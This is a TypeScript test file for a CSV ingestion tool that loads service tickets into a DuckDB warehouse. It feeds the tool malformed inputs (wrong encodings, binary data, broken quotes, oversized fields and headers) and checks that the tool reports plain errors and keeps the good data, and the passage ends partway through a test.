// Hostile input files: a corpus of files that break the input contract
// (docs/DATA.md) in the ways real exports and real users do, each
// with the exact outcome it must get.
//
// Every test writes its files into a fresh temp dir and ingests them into a
// warehouse that already holds a small good load (technicians, tickets, rework,
// parts, one reject), so "the warehouse keeps everything that was good" is
// checked on full table contents: a refused file leaves the warehouse exactly as
// it was; a partly bad file adds exactly its good rows and leaves the baseline
// rows untouched.
//
// Expectations come from DATA.md and from what a user must see (plain words, the
// right line), not from the current code: where the code falls short, the test
// still asserts the right outcome.
import { afterAll, describe, expect, it, vi } from 'vitest';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import iconv from 'iconv-lite';
import { Warehouse } from '../../src/lib/server/warehouse';
import { ingestFiles, type FileResult, type IngestResult } from '../../src/lib/server/ingest/index';
import { PNG_1x1, randomBytes, writeRows } from './fixtures/hostile/write';
import { warehouseFixture, type WarehouseFixture } from './helpers/warehouse-fixture';
import { DATE_RULE, FUTURE_RULE, MISSING, NUMBER_RULE, ROW_COUNTERS, TYPE_RULE, fileResult, storedRejects } from './helpers/ingest-expect';
import { parseJsonOut, runScript } from './helpers/cli';

type Row = Record<string, unknown>;

// ---------------------------------------------------------------- helpers

const DATA_TABLES = ['tickets', 'rework', 'parts', 'technicians'] as const;
type DataTable = (typeof DATA_TABLES)[number];

const NO_TICKET = 'no ticket with this id in the warehouse';
const UTF16_MESSAGE = 'the file is UTF-16 encoded; save it from Excel as "CSV UTF-8" or plain CSV (GBK)';
const BINARY_MESSAGE = 'the file is not a text CSV file (it contains binary NUL bytes)';
const EMPTY_LINE_MESSAGE = 'the first line is empty: expected a header line';

/** the four baseline files: 2 tickets loaded + 1 rejected, 1 rework, 1 parts line, 1 technician */
const BASELINE: Record<DataTable, string> = {
	technicians: 'technician_id,name,hire_date,team\nW1,张三,2024-03-01,一组\n',
	tickets:
		'ticket_id,created_at,type,customer_id,city,fault_description\n' +
		'BASE1,2026-07-01,install,c1,上海,"good, row"\n' +
		'BASE2,2026-07-02,维修,c2,北京,\n' +
		'BASE3,2026-07-03,bogus,c3,x,\n',
	rework: 'rework_id,original_ticket_id,rework_date,reason\nRB1,BASE1,2026-07-05,漏水\n',
	parts: 'ticket_id,part_no,quantity\nBASE1,P1,2\n'
};
const BASE_INGESTS = 4;

type Dump = Record<string, Row[]>;

/** the warehouse's own (non-temporary) tables, by name */
async function tableNames(wh: Warehouse): Promise<string[]> {
	const rows = await wh.all<{ t: string }>(`SELECT table_name AS t FROM duckdb_tables() WHERE NOT temporary ORDER BY 1`);
	return rows.map((r) => r.t);
}

/** every table of the warehouse (data, rejects, ingests, meta and any derived table), every column, rows in a stable order */
async function dump(wh: Warehouse): Promise<Dump> {
	const out: Dump = {};
	for (const t of await tableNames(wh)) out[t] = await wh.all(`SELECT * FROM "${t}" ORDER BY ALL`);
	return out;
}

interface Fixture extends WarehouseFixture {
	/** the warehouse right after the baseline load */
	before: Dump;
}

async function loadBaseline(wh: Warehouse, dir: string): Promise<void> {
	const baseDir = path.join(dir, 'baseline');
	fs.mkdirSync(baseDir, { recursive: true });
	const files = DATA_TABLES.map((t) => {
		const p = path.join(baseDir, `${t}.csv`);
		fs.writeFileSync(p, BASELINE[t]);
		return p;
	});
	const r = await ingestFiles(wh, files);
	expect(r.ok).toBe(true);
	expect(r.files.map((f) => [f.table, f.rows_loaded, f.rows_rejected])).toEqual([
		['technicians', 1, 0],
		['tickets', 2, 1],
		['rework', 1, 0],
		['parts', 1, 0]
	]);
}

async function fixture(): Promise<Fixture> {
	const fx = await warehouseFixture('hostile');
	await loadBaseline(fx.wh, fx.dir);
	return { ...fx, before: await dump(fx.wh) };
}

/** the one result of a run that ingested exactly one file */
function only(r: IngestResult): FileResult {
	expect(r.files).toHaveLength(1);
	return r.files[0];
}

/** a file-level message a user can read: one line, plain words, nothing from a stack or DuckDB's internals */
function expectPlainMessage(msg: string | undefined | null) {
	expect(msg, 'expected an error message').toBeTypeOf('string');
	const m = msg!;
	expect(m.trim().length).toBeGreaterThan(15);
	expect(m, 'one line').not.toMatch(/[\r\n]/);
	expect(m, 'no stack trace').not.toMatch(/^\s+at /m);
	expect(m, 'no "...Error:" prefixes').not.toMatch(/Error:/);
	expect(m, 'no DuckDB internals').not.toMatch(
		/Possible fixes|strict_mode|state machine|read_csv|sniffer|duckdb|INTERNAL|Exception|ENOENT|errno|syscall/i
	);
	expect(m, 'no control characters').not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f]/);
}

/** a reject rule a user can read */
function expectPlainRule(rule: string) {
	expect(rule, 'no stack trace').not.toMatch(/^\s+at /m);
	expect(rule, 'no "...Error:" prefixes').not.toMatch(/Error:/);
	expect(rule, 'no DuckDB internals').not.toMatch(/Possible fixes|strict_mode|state machine|read_csv|INTERNAL/i);
}

/** the file was refused as a whole with `message`, and the warehouse is exactly as before */
async function expectRefused(fx: Fixture, file: string, message: string | RegExp) {
	const r = await fx.ingest(file);
	expect(r.ok).toBe(false);
	const f = only(r);
	expectPlainMessage(f.error);
	if (typeof message === 'string') expect(f.error).toBe(message);
	else expect(f.error).toMatch(message);
	expect(f).toMatchObject({ file, rejects: [] });
	for (const counter of ROW_COUNTERS) expect(f[counter], counter).toBe(0);
	expect(await dump(fx.wh)).toEqual(fx.before);
}

/**
 * The baseline rows, rejects and ingests are untouched (compared by ingest_id,
 * so this also works on a million-row table), each data table grew by exactly
 * `delta`, and `newIngests` ingests were recorded.
 */
async function expectKept(fx: Fixture, delta: Partial<Record<DataTable, number>>, newIngests = 1) {
	for (const t of DATA_TABLES) {
		expect(await fx.wh.all(`SELECT * FROM ${t} WHERE ingest_id <= ${BASE_INGESTS} ORDER BY ALL`), `baseline rows of ${t}`).toEqual(
			fx.before[t]
		);
		const { n } = await fx.wh.one<{ n: number }>(`SELECT count(*) AS n FROM ${t}`);
		expect(n, `row count of ${t}`).toBe(fx.before[t].length + (delta[t] ?? 0));
	}
	expect(await fx.wh.all(`SELECT * FROM rejects WHERE ingest_id <= ${BASE_INGESTS} ORDER BY ALL`)).toEqual(fx.before.rejects);
	expect(await fx.wh.all(`SELECT * FROM ingests WHERE ingest_id <= ${BASE_INGESTS} ORDER BY ALL`)).toEqual(fx.before.ingests);
	const { n } = await fx.wh.one<{ n: number }>(`SELECT count(*) AS n FROM ingests`);
	expect(n).toBe(BASE_INGESTS + newIngests);
	expect(await tableNames(fx.wh), 'the same tables as before').toEqual(Object.keys(fx.before));
}

/** the ids of the tickets loaded after the baseline, in order */
async function newTicketIds(fx: Fixture): Promise<string[]> {
	const rows = await fx.wh.all<{ ticket_id: string }>(`SELECT ticket_id FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY ticket_id`);
	return rows.map((r) => r.ticket_id);
}

/** a four-row file whose row 2 (too long) and row 4 (type "bogus") were rejected: rows 1 and 3 loaded, nothing else changed */
async function expectRows1And3Loaded(fx: Fixture, f: FileResult, ids: [string, string]) {
	expect(f).toMatchObject({ rows_read: 4, rows_loaded: 2, rows_rejected: 2 });
	expect(await newTicketIds(fx)).toEqual(ids);
	await expectKept(fx, { tickets: 2 });
}

/** a CSV field, quoted, with doubled inner quotes */
const q = (s: string) => `"${s.replace(/"/g, '""')}"`;

const TICKETS_MIN = 'ticket_id,created_at,type,customer_id';

// ---------------------------------------------------------------- not CSV text at all

describe('files that are not CSV text: refused whole, in plain words; the warehouse exactly as before', () => {
	const cases: [string, () => string | Buffer, string | RegExp][] = [
		['an empty file (0 bytes)', () => '', 'the file is empty (no header line)'],
		['only blanks and a newline', () => '   \t \n', EMPTY_LINE_MESSAGE],
		['only a UTF-8 BOM', () => '\uFEFF', EMPTY_LINE_MESSAGE],
		['only blank CRLF lines', () => '\r\n\r\n\r\n', EMPTY_LINE_MESSAGE],
		['4 KiB of random bytes with NULs', () => randomBytes(4096, 20260701, true), BINARY_MESSAGE],
		['a PNG image saved as .csv', () => PNG_1x1, BINARY_MESSAGE],
		[
			'a PNG image followed by CSV text',
			() => Buffer.concat([PNG_1x1, Buffer.from(`\n${TICKETS_MIN}\nP1,2026-07-01,install,c\n`)]),
			BINARY_MESSAGE
		],
		// no NUL: it passes as text, and its "header" is garbage; the message must not
		// echo raw control bytes (ESC sequences) to the user's terminal
		['4 KiB of random bytes without NULs', () => randomBytes(4096, 7, false), /no known column|not a text|not a CSV/i]
	];
	for (const [name, content, message] of cases) {
		it(name, async () => {
			const fx = await fixture();
			const file = fx.write('hostile.csv', content());
			await expectRefused(fx, file, message);
		});
	}
});

describe('UTF-16 files (Excel "Unicode Text"): refused whole with a message that says UTF-16 and how to fix it', () => {
	const zhTab = '工单号\t报修时间\t类型\t客户编号\t故障描述\r\nU1\t2026-07-01\t安装\t客户甲\t压缩机异响，不制冷\r\n';
	const enComma = `${TICKETS_MIN},city\r\nU1,2026-07-01,install,c1,Shanghai\r\nU2,2026-07-02,repair,c2,Beijing\r\n`;
	const cases: [string, () => Buffer][] = [
		[
			'UTF-16 LE with a BOM (Chinese headers, tab-delimited, as Excel saves it)',
			() => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(zhTab, 'utf16le')])
		],
		['UTF-16 LE without a BOM (English, comma-delimited)', () => Buffer.from(enComma, 'utf16le')],
		// mostly Chinese, so fewer than 1 in 4 odd bytes are NUL: still UTF-16 text, not "binary"
		['UTF-16 LE without a BOM (Chinese headers, tab-delimited)', () => Buffer.from(zhTab, 'utf16le')],
		['UTF-16 BE with a BOM', () => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(enComma, 'utf16le').swap16()])]
	];
	for (const [name, content] of cases) {
		it(name, async () => {
			const fx = await fixture();
			const file = fx.write('unicode.csv', content());
			await expectRefused(fx, file, UTF16_MESSAGE);
		});
	}
});

describe('header only, or header and nothing but blank lines', () => {
	it('header followed by blank LF / CRLF lines: zero rows, no error, the warehouse data unchanged', async () => {
		const fx = await fixture();
		const a = fx.write('blank_lf.csv', `${TICKETS_MIN}\n\n\n\n`);
		const b = fx.write('blank_crlf.csv', `\uFEFF工单号,报修时间,类型,客户编号\r\n\r\n\r\n`);
		const r = await fx.ingest(a, b);
		expect(r.ok).toBe(true);
		expect(r.files.map((f) => [f.file, f.table, f.rows_read, f.rows_loaded, f.rows_rejected, f.error, f.rejects])).toEqual([
			[a, 'tickets', 0, 0, 0, undefined, []],
			[b, 'tickets', 0, 0, 0, undefined, []]
		]);
		await expectKept(fx, {}, 2);
	});

	it('header and a row of nothing but delimiters (Excel leaves these after formatted empty rows): one row rejected for each missing required value', async () => {
		const fx = await fixture();
		const file = fx.write('commas.csv', `${TICKETS_MIN},city\r\n,,,,\r\n`);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		expect(f).toMatchObject({ rows_read: 1, rows_loaded: 0, rows_rejected: 1 });
		expect(f.rejects).toEqual(
			['created_at', 'customer_id', 'ticket_id', 'type'].map((column) => ({ line: 2, column, value: null, rule: MISSING }))
		);
		await expectKept(fx, {});
	});
});

// ---------------------------------------------------------------- encodings

describe('GBK and broken encodings', () => {
	it('GBK bytes without a BOM, English header (nothing in the header hints at GBK): loads as GBK, every value exact', async () => {
		const fx = await fixture();
		const text =
			'ticket_id,created_at,type,customer_id,region,city,fault_component,fault_description,team_type,warranty\r\n' +
			`G1,2026年7月1日,维修,客户甲,华东,上海,压缩机,${q('不制冷，外机"嗡嗡"响, 需上门')},外协,保内\r\n` +
			'G2,2026/7/2 9:05,安装,客户乙,华南,广州,电容,,自有,保外\r\n' +
			'G3,2026-07-03,检修,客户丙,华北,北京,,,,\r\n'; // 检修 is not a ticket type
		const file = fx.write('tickets_utf8_really_gbk.csv', iconv.encode(text, 'gbk'));
		expect(() => new TextDecoder('utf-8', { fatal: true }).decode(fs.readFileSync(file))).toThrow(); // really not UTF-8
		const f = only(await fx.ingest(file));
		expect(f).toMatchObject({ table: 'tickets', encoding: 'gb18030', rows_read: 3, rows_loaded: 2, rows_rejected: 1 });
		expect(f.rejects).toEqual([{ line: 4, column: 'type', value: '检修', rule: TYPE_RULE }]);
		expect(
			await fx.wh.all(
				`SELECT ticket_id, created_at, type, customer_id, region, city, fault_component, fault_description, team_type, warranty
         FROM tickets WHERE ticket_id LIKE 'G%' ORDER BY 1`
			)
		).toEqual([
			{
				ticket_id: 'G1',
				created_at: '2026-07-01 00:00:00',
				type: 'repair',
				customer_id: '客户甲',
				region: '华东',
				city: '上海',
				fault_component: '压缩机',
				fault_description: '不制冷，外机"嗡嗡"响, 需上门',
				team_type: 'outsourced',
				warranty: 'in'
			},
			{
				ticket_id: 'G2',
				created_at: '2026-07-02 09:05:00',
				type: 'install',
				customer_id: '客户乙',
				region: '华南',
				city: '广州',
				fault_component: '电容',
				fault_description: null,
				team_type: 'internal',
				warranty: 'out'
			}
		]);
		expect(await storedRejects(fx.wh, file)).toEqual(f.rejects);
		await expectKept(fx, { tickets: 2 });
	});

	it('a GBK file whose only Chinese text is 漏水 (GBK bytes C2 A9 CB AE are also valid UTF-8): still GBK, stored as 漏水, not mojibake', async () => {
		const fx = await fixture();
		const text = 'rework_id,original_ticket_id,rework_date,reason\r\nRG1,BASE1,2026-07-06,漏水\r\nRG2,BASE2,2026-07-07,漏水\r\n';
		const bytes = iconv.encode(text, 'gbk');
		expect(bytes.includes(Buffer.from([0xc2, 0xa9, 0xcb, 0xae]))).toBe(true);
		expect(new TextDecoder('utf-8', { fatal: true }).decode(bytes)).toContain('©ˮ'); // what a UTF-8 reader makes of it
		const file = fx.write('rework.csv', bytes);
		const f = only(await fx.ingest(file));
		expect(f).toMatchObject({ table: 'rework', rows_read: 2, rows_loaded: 2, rows_rejected: 0, rejects: [] });
		expect(await fx.wh.all(`SELECT rework_id, reason FROM rework WHERE rework_id LIKE 'RG%' ORDER BY 1`)).toEqual([
			{ rework_id: 'RG1', reason: '漏水' },
			{ rework_id: 'RG2', reason: '漏水' }
		]);
		expect(f.encoding).toBe('gb18030');
		await expectKept(fx, { rework: 2 });
	});

	it('a UTF-8 file with one corrupt byte in one row: the other rows load with their Chinese text intact; the corrupt row is rejected at its line', async () => {
		const fx = await fixture();
		const bytes = Buffer.concat([
			Buffer.from(`${TICKETS_MIN},city\nU1,2026-07-01,维修,客户甲,上海\nU2,2026-07-01,install,c2,`),
			Buffer.from([0xff, 0x41]),
			Buffer.from('\nU3,2026-07-01,安装,客户丙,北京\n')
		]);
		const file = fx.write('utf8_one_bad_byte.csv', bytes);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		// no row may be stored as mojibake, and the two good rows must not be lost
		expect(await fx.wh.all(`SELECT ticket_id, type, customer_id, city FROM tickets WHERE ticket_id IN ('U1', 'U3') ORDER BY 1`)).toEqual([
			{ ticket_id: 'U1', type: 'repair', customer_id: '客户甲', city: '上海' },
			{ ticket_id: 'U3', type: 'install', customer_id: '客户丙', city: '北京' }
		]);
		expect(f).toMatchObject({ encoding: 'utf-8', rows_read: 3, rows_loaded: 2, rows_rejected: 1 });
		expect(f.rejects).toHaveLength(1);
		// the corrupt byte sits in the city field, and DuckDB names it
		expect(f.rejects[0]).toMatchObject({ line: 3, column: 'city' });
		expect(f.rejects[0].rule).toMatch(/^malformed CSV row: /);
		expectPlainRule(f.rejects[0].rule);
		await expectKept(fx, { tickets: 2 });
	});
});

// ---------------------------------------------------------------- line ends and quotes

describe('mixed line endings in one file', () => {
	const LINES = [
		`${TICKETS_MIN},city`,
		'M1,2026-07-01,install,c1,上海',
		'M2,2026-07-02,repair,c2,北京',
		'M3,2026-07-03,bogus,c3,广州',
		'M4,2026-07-04,maintenance,c4,深圳'
	];
	const variants: [string, string[]][] = [
		['LF first, then alternating with CRLF', ['\n', '\r\n', '\n', '\r\n', '\n']],
		['CRLF first, then alternating with LF', ['\r\n', '\n', '\r\n', '\n', '\r\n']],
		['a CRLF header, LF rows', ['\r\n', '\n', '\n', '\n', '\n']],
		['CRLF rows, the last row added in an editor with LF', ['\r\n', '\r\n', '\r\n', '\r\n', '\n']]
	];
	for (const [name, eols] of variants) {
		it(`${name}: every row is read, the bad one rejected at its line`, async () => {
			const fx = await fixture();
			const file = fx.write('mixed.csv', LINES.map((l, i) => l + eols[i]).join(''));
			const f = only(await fx.ingest(file));
			expect(f.error).toBeUndefined();
			expect(f).toMatchObject({ table: 'tickets', rows_read: 4, rows_loaded: 3, rows_rejected: 1 });
			expect(f.rejects).toEqual([{ line: 4, column: 'type', value: 'bogus', rule: TYPE_RULE }]);
			expect(await fx.wh.all(`SELECT ticket_id, type, customer_id, city FROM tickets WHERE ticket_id LIKE 'M%' ORDER BY 1`)).toEqual([
				{ ticket_id: 'M1', type: 'install', customer_id: 'c1', city: '上海' },
				{ ticket_id: 'M2', type: 'repair', customer_id: 'c2', city: '北京' },
				{ ticket_id: 'M4', type: 'maintenance', customer_id: 'c4', city: '深圳' }
			]);
			await expectKept(fx, { tickets: 3 });
		});
	}

	it('Excel style (control): CRLF rows with a bare LF inside a quoted cell', async () => {
		const fx = await fixture();
		const file = fx.write(
			'excel.csv',
			`${TICKETS_MIN},fault_description\r\nE1,2026-07-01,install,c1,"第一行\n第二行"\r\nE2,2026-07-01,bogus,c2,x\r\n`
		);
		const f = only(await fx.ingest(file));
		expect(f).toMatchObject({ rows_read: 2, rows_loaded: 1, rows_rejected: 1 });
		expect(f.rejects).toEqual([{ line: 4, column: 'type', value: 'bogus', rule: TYPE_RULE }]);
		expect(await fx.wh.all(`SELECT fault_description FROM tickets WHERE ticket_id = 'E1'`)).toEqual([
			{ fault_description: '第一行\n第二行' }
		]);
		await expectKept(fx, { tickets: 1 });
	});
});

describe('an unclosed quote in the middle of a file', () => {
	it('a quote that never closes: the rows before load, the row is reported at its line, and the rows after are not silently lost', async () => {
		const fx = await fixture();
		const after = Array.from({ length: 40 }, (_, i) => `L${i},2026-07-01,install,c${i},after ${i}`);
		const file = fx.write(
			'unclosed.csv',
			[`${TICKETS_MIN},fault_description`, 'Q1,2026-07-01,install,c1,before', 'Q2,2026-07-01,repair,c2,"never closed', ...after, ''].join(
				'\n'
			)
		);
		const f = only(await fx.ingest(file));
		if (f.error !== undefined) {
			// acceptable: the whole file refused, naming the line of the quote
			expectPlainMessage(f.error);
			expect(f.error).toMatch(/\bline 3\b/);
			expect(await dump(fx.wh)).toEqual(fx.before);
		} else {
			// acceptable: line 3 rejected, the 40 rows after it loaded
			expect(f.rejects).toHaveLength(1);
			expect(f.rejects[0]).toMatchObject({ line: 3 });
			expect(f.rejects[0].rule).toMatch(/^malformed CSV row: an unclosed or stray quote/);
			expect(f.rejects[0].value).toMatch(/^Q2,2026-07-01,repair,c2,"never closed/);
			const loaded = await newTicketIds(fx);
			// what went missing without a word: rows after the quote that neither loaded nor were reported
			expect(
				loaded.filter((id) => id.startsWith('L')).length,
				`rows after the unclosed quote that were loaded (rows_read=${f.rows_read})`
			).toBe(40);
			expect(loaded).toContain('Q1');
			expect(f).toMatchObject({ rows_read: 42, rows_loaded: 41, rows_rejected: 1 });
			await expectKept(fx, { tickets: 41 });
		}
	});

	it('a quote closed by a later quote: the swallowed lines are shown in the reject value, later rows load, and a later bad row gets its own line number', async () => {
		const fx = await fixture();
		const lines = [
			/* 1 */ `${TICKETS_MIN},fault_description,city`,
			/* 2 */ 'Q1,2026-07-01,install,c1,ok,a',
			/* 3 */ 'Q2,2026-07-01,install,c2,"never closed,b',
			/* 4 */ 'Q3,2026-07-01,install,c3,after,c',
			/* 5 */ 'Q4,2026-07-01,install,c4,"quoted",d',
			/* 6 */ 'Q5,2026-07-01,install,c5,x,e',
			/* 7 */ 'Q6,2026-07-01,bogus,c6,x,f',
			/* 8 */ 'Q7,2026-07-01,install,c7,x,g'
		];
		const file = fx.write('unclosed_then_quote.csv', lines.join('\n') + '\n');
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		expect(f.rejects).toEqual([
			{
				line: 3,
				column: 'fault_description',
				value: lines.slice(2, 5).join('\n'),
				rule: 'malformed CSV row: an unclosed or stray quote (Value with unterminated quote found.)'
			},
			{ line: 7, column: 'type', value: 'bogus', rule: TYPE_RULE }
		]);
		expect(f).toMatchObject({ rows_read: 5, rows_loaded: 3, rows_rejected: 2 });
		expect(await fx.wh.all(`SELECT ticket_id, fault_description, city FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`)).toEqual([
			{ ticket_id: 'Q1', fault_description: 'ok', city: 'a' },
			{ ticket_id: 'Q5', fault_description: 'x', city: 'e' },
			{ ticket_id: 'Q7', fault_description: 'x', city: 'g' }
		]);
		expect(await storedRejects(fx.wh, file)).toEqual(f.rejects);
		await expectKept(fx, { tickets: 3 });
	});
});

describe('rows with too many and too few fields (CRLF, a blank line, no final newline)', () => {
	it('each malformed row is rejected at its line with its raw text; trailing empty fields are tolerated; the rest loads', async () => {
		const fx = await fixture();
		const lines = [
			/* 1 */ `${TICKETS_MIN},city`,
			/* 2 */ 'F1,2026-07-01,install,c1,a',
			/* 3 */ 'F2,2026-07-01,install,c2,a,extra',
			/* 4 */ 'F3,2026-07-01,install',
			/* 5 */ 'F4,2026-07-01,install,c4,d,,', // trailing delimiters (Excel): extra empty fields are dropped, the row loads
			/* 6 */ '',
			/* 7 */ 'F5,2026-07-01,install,c5',
			/* 8 */ 'F6,2026-07-01,bogus,c6,x',
			/* 9 */ 'F7,2026-07-01,install,c7,"z, with a comma"'
		];
		const file = fx.write('fields.csv', lines.join('\r\n'));
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		const many = (n: number) => `malformed CSV row: too many fields (Expected Number of Columns: 5 Found: ${n})`;
		const few = (n: number) => `malformed CSV row: too few fields (Expected Number of Columns: 5 Found: ${n})`;
		expect(f.rejects).toEqual([
			{ line: 3, column: null, value: lines[2], rule: many(6) },
			{ line: 4, column: null, value: lines[3], rule: few(3) },
			{ line: 7, column: null, value: lines[6], rule: few(4) },
			{ line: 8, column: 'type', value: 'bogus', rule: TYPE_RULE }
		]);
		expect(f).toMatchObject({ rows_read: 7, rows_loaded: 3, rows_rejected: 4 });
		expect(await fx.wh.all(`SELECT ticket_id, city FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`)).toEqual([
			{ ticket_id: 'F1', city: 'a' },
			{ ticket_id: 'F4', city: 'd' },
			{ ticket_id: 'F7', city: 'z, with a comma' }
		]);
		expect(await storedRejects(fx.wh, file)).toEqual(f.rejects);
		await expectKept(fx, { tickets: 3 });
	});
});

// ---------------------------------------------------------------- size

describe('very large fields and files', () => {
	it('a 10 MB quoted field full of commas, doubled quotes and newlines loads whole; the rows after it load; a later bad row gets its physical line', async () => {
		const fx = await fixture();
		const unit = 'abc, "q" 压缩机 \n'; // 20 bytes of UTF-8, one newline
		const k = 520_000; // 10.4 MB of value, 520,000 newlines
		const value = unit.repeat(k);
		const file = fx.write(
			'huge_field.csv',
			`${TICKETS_MIN},fault_description\nB1,2026-07-01,install,c1,short\nB2,2026-07-01,repair,c2,${q(value)}\nB3,2026-07-01,install,c3,after\nB4,2026-07-01,bogus,c4,after\n`
		);
		expect(fs.statSync(file).size).toBeGreaterThan(10 * 1024 * 1024);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		// line 3 holds B2 and its k newlines: B3 starts on line 4 + k, B4 on 5 + k
		expect(f.rejects).toEqual([{ line: 5 + k, column: 'type', value: 'bogus', rule: TYPE_RULE }]);
		expect(f).toMatchObject({ rows_read: 4, rows_loaded: 3, rows_rejected: 1 });
		const [b2] = await fx.wh.all<{ len: number; same: boolean }>(
			`SELECT length(fault_description) AS len, fault_description = $v AS same FROM tickets WHERE ticket_id = 'B2'`,
			{ v: value }
		);
		expect(b2).toEqual({ len: value.length, same: true });
		expect(await newTicketIds(fx)).toEqual(['B1', 'B2', 'B3']);
		await expectKept(fx, { tickets: 3 });
	});

	it('a 20 MB line (over the reader limit) is rejected with a clear rule; the rest of the file loads', async () => {
		const fx = await fixture();
		const file = fx.write(
			'too_long.csv',
			`${TICKETS_MIN},fault_description\nH1,2026-07-01,install,c1,short\nH2,2026-07-01,install,c2,${'x'.repeat(20 * 1024 * 1024)}\nH3,2026-07-01,install,c3,after\nH4,2026-07-01,bogus,c4,after\n`
		);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		expect(f.rejects).toEqual([
			{
				line: 3,
				column: null,
				value: 'H2,2026-07-01,install,c2,' + 'x'.repeat(200 - 25),
				// 'H2,2026-07-01,install,c2,' (25 bytes) + 20 MiB of x = 20.0 MB
				rule: 'a field longer than 16 MB: this row holds 20.0 MB, and a row may hold at most 16 MB'
			},
			{ line: 5, column: 'type', value: 'bogus', rule: TYPE_RULE }
		]);
		expectPlainRule(f.rejects[0].rule);
		await expectRows1And3Loaded(fx, f, ['H1', 'H3']);
	});

	it('1,000,000 tickets with one bad row at the very end: exactly one reject, on line 1,000,001; 999,999 rows loaded', async () => {
		const fx = await fixture();
		const file = path.join(fx.dir, 'million.csv');
		const N = 1_000_000;
		const types = ['install', 'repair', 'maintenance', 'complaint'];
		await writeRows(file, `${TICKETS_MIN},city,labor_fee,fault_description`, N, (i) =>
			i === N - 1
				? `MIL${i},2026-07-01,bogus,CLAST,上海,1,last`
				: `MIL${i},2026-0${1 + (i % 9)}-1${i % 10} 08:${String(i % 60).padStart(2, '0')},${types[i & 3]},C${i % 5000},上海,${i % 300},"维修, ${i}"`
		);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		expect(f.rejects).toEqual([{ line: 1_000_001, column: 'type', value: 'bogus', rule: TYPE_RULE }]);
		expect(f).toMatchObject({
			table: 'tickets',
			rows_read: N,
			rows_loaded: N - 1,
			rows_rejected: 1,
			rows_inserted: N - 1,
			rows_updated: 0
		});
		expect(
			await fx.wh.all(
				`SELECT ticket_id, created_at, type, customer_id, labor_fee, fault_description FROM tickets WHERE ticket_id IN ('MIL0', 'MIL999998', 'MIL999999') ORDER BY 1`
			)
		).toEqual([
			{
				ticket_id: 'MIL0',
				created_at: '2026-01-10 08:00:00',
				type: 'install',
				customer_id: 'C0',
				labor_fee: 0,
				fault_description: '维修, 0'
			},
			{
				ticket_id: 'MIL999998',
				created_at: '2026-09-18 08:38:00',
				type: 'maintenance',
				customer_id: 'C4998',
				labor_fee: 98,
				fault_description: '维修, 999998'
			}
		]);
		expect(await storedRejects(fx.wh, file)).toEqual(f.rejects);
		await expectKept(fx, { tickets: N - 1 });
	});
});

// ---------------------------------------------------------------- bounds: checked before DuckDB reads the file

/** writes `head`, then `repeat` times `unit`, then `tail`, without holding the whole file in memory */
function writeRepeated(file: string, head: string | Buffer, unit: Buffer, repeat: number, tail: string | Buffer) {
	const fd = fs.openSync(file, 'w');
	try {
		fs.writeSync(fd, typeof head === 'string' ? Buffer.from(head) : head);
		const per = Math.max(1, Math.floor((1 << 20) / unit.length));
		const block = Buffer.concat(Array(per).fill(unit));
		let left = repeat;
		for (; left >= per; left -= per) fs.writeSync(fd, block);
		if (left > 0) fs.writeSync(fd, block.subarray(0, left * unit.length));
		fs.writeSync(fd, typeof tail === 'string' ? Buffer.from(tail) : tail);
	} finally {
		fs.closeSync(fd);
	}
}

const LONG_RULE = (mb: string) => `a field longer than 16 MB: this row holds ${mb} MB, and a row may hold at most 16 MB`;

describe('bounds: the header and the size of each row are checked before DuckDB reads the file', () => {
	it('a 600 KB header of 200,000 columns is refused from its header line alone, before DuckDB is asked anything, in plain words; the warehouse unchanged', async () => {
		const fx = await fixture();
		const header = `${TICKETS_MIN},` + Array.from({ length: 200_000 - 4 }, (_, i) => `c${i % 10}`).join(',');
		const file = fx.write('wide.csv', `${header}\nW1,2026-07-01,install,c1${',x'.repeat(200_000 - 4)}\n`);
		expect(Buffer.byteLength(header)).toBeGreaterThan(590_000);
		// every statement the warehouse runs goes through its connection's run or runAndReadAll: the refusal must come
		// from the header line (sniff.ts), before a read_csv of 200,000 columns, a plan or a transaction is started
		const statements = [vi.spyOn(fx.wh.conn, 'run'), vi.spyOn(fx.wh.conn, 'runAndReadAll')];
		let r: IngestResult;
		try {
			r = await fx.ingest(file);
			expect(statements.map((s) => s.mock.calls.length)).toEqual([0, 0]);
		} finally {
			for (const s of statements) s.mockRestore();
		}
		expect(only(r).error).toBe(
			'the header line has 200,000 columns; at most 1,000 are read (a tickets file has 24): not an export of tickets, rework, parts or technicians'
		);
		await expectRefused(fx, file, /^the header line has 200,000 columns;/);
	});

	it('1,001 columns are refused; 1,000 columns (the 4 of a ticket and 996 others) load, the others reported as not used', async () => {
		const fx = await fixture();
		const extra = (n: number) => Array.from({ length: n }, (_, i) => `extra${i + 1}`);
		const over = fx.write('over.csv', `${[TICKETS_MIN, ...extra(997)].join(',')}\nO1,2026-07-01,install,c1${',x'.repeat(997)}\n`);
		await expectRefused(
			fx,
			over,
			'the header line has 1,001 columns; at most 1,000 are read (a tickets file has 24): not an export of tickets, rework, parts or technicians'
		);
		const fits = fx.write('fits.csv', `${[TICKETS_MIN, ...extra(996)].join(',')}\nF1,2026-07-01,install,c1${',x'.repeat(996)}\n`);
		const f = only(await fx.ingest(fits));
		expect(f.error).toBeUndefined();
		expect(f).toMatchObject({ table: 'tickets', rows_read: 1, rows_loaded: 1, rows_rejected: 0 });
		expect(f.ignored_columns).toEqual(extra(996));
		await expectKept(fx, { tickets: 1 });
	});

	it('a header line with no line end in its first megabyte is refused without reading on', async () => {
		const fx = await fixture();
		const file = fx.write('no_line_end.csv', `${TICKETS_MIN},` + 'a'.repeat(2 * 1024 * 1024));
		await expectRefused(fx, file, 'the header line is longer than 1 MB (no line end in the first 1 MB): not a CSV export');
	});

	it('a correctly closed 120 MB quoted field: its row is rejected as "a field longer than 16 MB" at its line (not an unterminated quote); every other row is read right', async () => {
